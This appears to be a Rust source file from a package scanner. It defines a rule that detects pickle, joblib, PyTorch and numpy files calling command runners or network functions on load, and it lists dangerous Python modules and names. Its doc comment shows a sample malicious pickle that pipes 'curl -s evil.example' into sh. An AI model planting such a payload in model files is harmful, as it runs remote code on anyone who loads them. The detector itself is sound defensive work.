use crate::carriers::pickle::PickleGlobal;
use crate::carriers::{self, PickleFile};
use crate::finding::{Finding, Location, Severity, ValueKind};
use crate::python::{ExecContext, FileAnalysis, FileRole, QualName};
use crate::rules::{PackageFacts, Rule, RuleMeta, cut_to, declare_rule};

declare_rule! {
    /// A pickle (model file, joblib dump, numpy object array) that calls a
    /// command runner, code evaluator, importer or network function when
    /// it is loaded.
    ///
    /// ## What it finds
    /// Pickle streams anywhere in the package — `.pkl`, `.pickle`,
    /// `.joblib` (compressed or not), PyTorch `.pt`/`.pth` zips (their
    /// `data.pkl`), `.npy` object arrays and `.npz` members, and files of
    /// any name that start with a pickle header — whose opcodes import a
    /// dangerous callable (`os.system`, `posix.system`, `subprocess.*`,
    /// `builtins.exec`/`eval`/`getattr`/`__import__`, `runpy`, `socket`,
    /// `webbrowser`, `shutil`, …) and call it through `REDUCE`, `INST`,
    /// `OBJ` or `NEWOBJ`, or hand it to another call. The opcodes are
    /// walked symbolically, never unpickled: every protocol (0–5), names
    /// kept in the memo and fetched back for `STACK_GLOBAL`, and pickles
    /// stacked one after another in a file are all followed. When the
    /// package's own code loads the file (`pickle.load`, `torch.load`,
    /// `joblib.load`, `numpy.load`, `pandas.read_pickle` near its name),
    /// the finding says where and when.
    ///
    /// ## Why it matters
    /// Unpickling runs the program the pickle holds: a model file whose
    /// `__reduce__` returns `os.system` runs a command the moment anyone
    /// loads it. Benign pickles rebuild objects (`collections.OrderedDict`,
    /// `torch._utils._rebuild_tensor_v2`, `numpy.core.multiarray._reconstruct`)
    /// and never reach these names. A pickle that calls one is high; one
    /// the package loads by itself at install, start-up or import time is
    /// critical; a dangerous name merely imported and never used, or an
    /// import whose name is computed while loading, is medium. A pickle
    /// the walk could not read to its end (an unknown opcode, a joblib
    /// array of a layout assay does not read) is low: what follows was not
    /// checked.
    ///
    /// ## Example
    /// ```text
    /// pkg/weights.pt (zip) archive/data.pkl:
    ///   \x80\x02cposix\nsystem\nX\x1a\x00\x00\x00curl -s evil.example | sh\x85R.
    /// pkg/__init__.py: model = torch.load(os.path.join(HERE, "weights.pt"))
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1059.006 (Python), T1204.002 (Malicious File);
    /// CWE-502 (Deserialization of Untrusted Data).
    pub struct PickleCodeExecution {
        id: "AY150",
        slug: "pickle-code-execution",
        category: Execution,
        severity: Critical,
    }
}

impl Rule for PickleCodeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        for pickle in &facts.carriers.pickles {
            // What follows the place the walk stopped was not checked: an
            // array layout, an opcode or a dtype assay does not read (a
            // hiding place for a later call, so it is said).
            if let Some(why) = &pickle.scan.stopped {
                let mut f = Self::META.finding(
                    Location::file(pickle.path.clone()),
                    format!(
                        "{} could not be read past {why}: the rest was not checked",
                        describe(pickle)
                    ),
                );
                f.severity = Severity::Low;
                out.push(f);
            }
            let dangerous: Vec<&PickleGlobal> = pickle
                .scan
                .globals
                .iter()
                .filter(|g| is_dangerous(&g.module, &g.name) || (g.called && &*g.module == "?"))
                .collect();
            if dangerous.is_empty() {
                continue;
            }
            let called: Vec<&PickleGlobal> =
                dangerous.iter().copied().filter(|g| g.called).collect();
            let shown = if called.is_empty() {
                &dangerous
            } else {
                &called
            };
            let names: Vec<String> = shown.iter().map(|g| display(g)).collect();
            let what = if called.is_empty() {
                "imports"
            } else {
                "calls when loaded"
            };
            let mut f = Self::META.finding(
                Location::file(pickle.path.clone()),
                format!(
                    "{} {what} {}{}",
                    describe(pickle),
                    names.join(", "),
                    protocol(pickle)
                ),
            );
            let computed_only = called.iter().all(|g| &*g.module == "?");
            f.severity = if called.is_empty() || computed_only {
                Severity::Medium
            } else {
                Severity::High
            };
            // Read out of the pickle's opcodes.
            f.set_value(
                ValueKind::Decoded,
                shown
                    .iter()
                    .find_map(|g| g.argument.as_deref())
                    .map(|a| cut_to(a, 400)),
            );
            if let Some((py, line, context)) = loader(facts.python, &pickle.path) {
                let script = py.role == Some(FileRole::Script);
                if context.is_automatic() && !script && f.severity == Severity::High {
                    f.severity = Severity::Critical;
                }
                f.message = format!(
                    "{}; {}:{line} loads it {}",
                    f.message,
                    py.path,
                    context.describe()
                );
                f.context = Some(context);
            }
            out.push(f);
        }
    }
}

fn describe(pickle: &PickleFile) -> String {
    match &pickle.member {
        Some(member) => format!("{} in {} ({member})", pickle.carrier, pickle.path),
        None => format!("{} {}", pickle.carrier, pickle.path),
    }
}

fn protocol(pickle: &PickleFile) -> String {
    format!(" (protocol {})", pickle.scan.protocol)
}

fn display(global: &PickleGlobal) -> String {
    if &*global.module == "?" {
        "a callable whose name is computed while loading".to_owned()
    } else {
        global.qualified()
    }
}

/// Modules every callable of which runs commands, code, or touches the
/// network or files when a pickle calls it.
const DANGEROUS_MODULES: &[&str] = &[
    "os",
    "posix",
    "nt",
    "subprocess",
    "_posixsubprocess",
    "pty",
    "commands",
    "popen2",
    "socket",
    "_socket",
    "shutil",
    "runpy",
    "webbrowser",
    "ctypes",
    "importlib",
    "imp",
    "marshal",
    "code",
    "codeop",
    "sys",
    "requests",
    "urllib",
    "urllib2",
    "httplib",
    "http",
    "ftplib",
    "smtplib",
    "telnetlib",
    "multiprocessing",
    "asyncio",
    "pickle",
    "_pickle",
    "cPickle",
    "dill",
    "cloudpickle",
    "shelve",
    "pip",
    "platform",
    "pydoc",
    "timeit",
    "cProfile",
    "profile",
    "pdb",
    "bdb",
    "trace",
    "doctest",
    "zipimport",
    "venv",
    "ensurepip",
];

/// Dangerous callables in modules that are otherwise fine.
const DANGEROUS_NAMES: &[(&str, &[&str])] = &[
    (
        "builtins",
        &[
            "exec",
            "eval",
            "compile",
            "__import__",
            "getattr",
            "setattr",
            "delattr",
            "open",
            "breakpoint",
            "input",
            "globals",
            "locals",
            "vars",
            "execfile",
            "apply",
            "reload",
            "file",
        ],
    ),
    ("operator", &["attrgetter", "methodcaller"]),
    ("types", &["CodeType", "FunctionType", "LambdaType"]),
    (
        "torch.hub",
        &["load", "load_state_dict_from_url", "download_url_to_file"],
    ),
    ("torch", &["load"]),
    ("torch.serialization", &["load"]),
    ("numpy", &["load"]),
    ("numpy.testing._private.utils", &["runstring"]),
    ("pandas", &["read_pickle"]),
    ("pandas.io.pickle", &["read_pickle"]),
    ("joblib", &["load"]),
];

/// Harmless modules inside a dangerous package (`os.path.join` builds a
/// path and does nothing else).
const HARMLESS_MODULES: &[&str] = &["os.path", "posixpath", "ntpath", "http.cookies"];

fn is_dangerous(module: &str, name: &str) -> bool {
    let module = match module {
        "__builtin__" | "__builtins__" => "builtins",
        other => other,
    };
    if HARMLESS_MODULES.contains(&module) {
        return false;
    }
    let top = module.split('.').next().unwrap_or(module);
    if DANGEROUS_MODULES.contains(&top) {
        return true;
    }
    let bare = name.split('.').next().unwrap_or(name);
    DANGEROUS_NAMES
        .iter()
        .any(|(m, names)| *m == module && names.contains(&bare))
}

/// Calls that unpickle a file.
fn is_unpickler(name: &QualName) -> bool {
    let (Some(top), Some(function)) = (name.top_module(), name.last_name()) else {
        return false;
    };
    if name.segments().len() < 2 {
        return false;
    }
    let loads = matches!(
        function,
        "load" | "loads" | "read_pickle" | "Unpickler" | "load_state_dict" | "load_model"
    );
    loads
        && matches!(
            top,
            "pickle"
                | "_pickle"
                | "cPickle"
                | "dill"
                | "cloudpickle"
                | "joblib"
                | "torch"
                | "numpy"
                | "pandas"
                | "sklearn"
                | "keras"
        )
}

/// Where the package's Python unpickles the file: the file, line and
/// context of the strongest such call. A call counts when an argument
/// names the file, or when its file mentions the name and unpickles.
fn loader<'a>(
    python: &'a [FileAnalysis],
    path: &str,
) -> Option<(&'a FileAnalysis, u32, ExecContext)> {
    let base = path.rsplit('/').next().unwrap_or(path);
    let mut best: Option<(&FileAnalysis, u32, ExecContext)> = None;
    for py in python {
        let unpicklers: Vec<_> = py.calls.iter().filter(|c| is_unpickler(&c.name)).collect();
        if unpicklers.is_empty() {
            continue;
        }
        let mentioned = py.strings.iter().any(|s| s.value.contains(base));
        for call in unpicklers {
            if !(mentioned || carriers::names_file(py, call, base)) {
                continue;
            }
            if best.is_none_or(|b| call.context > b.2) {
                best = Some((py, call.line, call.context));
            }
        }
    }
    best
}
